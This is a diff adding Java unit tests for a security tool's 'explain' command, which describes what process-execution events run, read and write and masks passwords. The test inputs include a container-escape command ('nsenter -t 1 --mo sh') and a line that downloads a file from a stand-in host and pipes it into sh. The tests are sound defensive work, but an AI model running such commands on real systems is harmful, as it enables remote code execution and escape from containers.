@@ -7,6 +7,8 @@ import com.fasterxml.jackson.databind.ObjectMapper;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -165,6 +167,79 @@ class ExplainCommandTest {
         .contains("  FIRES: it matches\n", "process.arguments = '--password=***** shop'")
         .contains("    exception spec.exceptions[0]: false")
         .doesNotContain("hunter2");
+  }
+
+  @Test
+  void saysWhichProgramACommandLineLeadsTo() throws IOException {
+    Invocation explained =
+        explainExecution("/bin/busybox", "env A=b nsenter -t 1 --mo sh /proc/self/root/x");
+
+    assertThat(explained.out())
+        .contains(
+            """
+              /bin/busybox env A=b nsenter -t 1 --mo sh /proc/self/root/x
+                runs nsenter -t 1 --mo sh /proc/self/root/x
+                  options -t 1, -m
+                  reads /app/sh, /x
+                  through busybox, env
+            """);
+  }
+
+  @Test
+  void saysWhatAShellsTextRunsReadsAndWrites() throws IOException {
+    Invocation explained =
+        explainExecution("/bin/sh", "-c \\\"curl -sko /tmp/x https://h; sh < /tmp/./x\\\"");
+
+    assertThat(explained.out())
+        .contains(
+            """
+                runs sh (/bin/sh) -c "curl -sko /tmp/x https://h; sh < /tmp/./x"
+                  options -c
+                  runs curl -sko /tmp/x https://h
+                    options -s, -k, -o /tmp/x
+                    writes /tmp/x
+                  runs sh
+                    reads /tmp/x
+            """);
+  }
+
+  @Test
+  void saysThatAShellsTextIsReadInPart() throws IOException {
+    Invocation explained = explainExecution("/bin/sh", "-c \\\"" + "$(".repeat(100) + "ls\\\"");
+
+    assertThat(explained.out()).contains("too long or too deep, and read in part only");
+  }
+
+  @Test
+  void takesSecretsOutOfEachCommand() throws IOException {
+    String commands = "mysql --password=hunter2 -u x; ./hunter2 > /tmp/hunter2";
+
+    Invocation text = explainExecution("/bin/sh", "-c \\\"" + commands + "\\\"");
+    Invocation json = explainExecution("/bin/sh", "-c \\\"" + commands + "\\\"", "-o", "json");
+
+    assertThat(text.out())
+        .contains("runs mysql --password=***** -u x\n        options --password *****, -u x\n")
+        .contains("runs ***** (/app/*****)\n        writes /tmp/*****\n");
+    JsonNode command = new ObjectMapper().readTree(json.out()).at("/events/0/command");
+    assertThat(command.at("/commands"))
+        .extracting(each -> each.path("name").asText())
+        .containsExactly("mysql", "*****");
+    assertThat(command.toString()).doesNotContain("hunter");
+  }
+
+  private Invocation explainExecution(String binary, String arguments, String... more)
+      throws IOException {
+    Path events =
+        Files.writeString(
+            folder.resolve("events.jsonl"),
+            """
+            {"process_exec":{"process":{"exec_id":"eA==","pid":1,"binary":"%s","arguments":"%s","cwd":"/app","flags":"execve"}},"node_name":"n","time":"2026-01-01T00:00:00Z"}
+            """
+                .formatted(binary, arguments));
+    List<String> all = new ArrayList<>(List.of("--event", events.toString()));
+    all.addAll(List.of(more));
+    return explain(
+        "events: [ProcessExec]\nscope: {host: Include}\nmatch: 'true'", all.toArray(String[]::new));
   }
 
   @Test
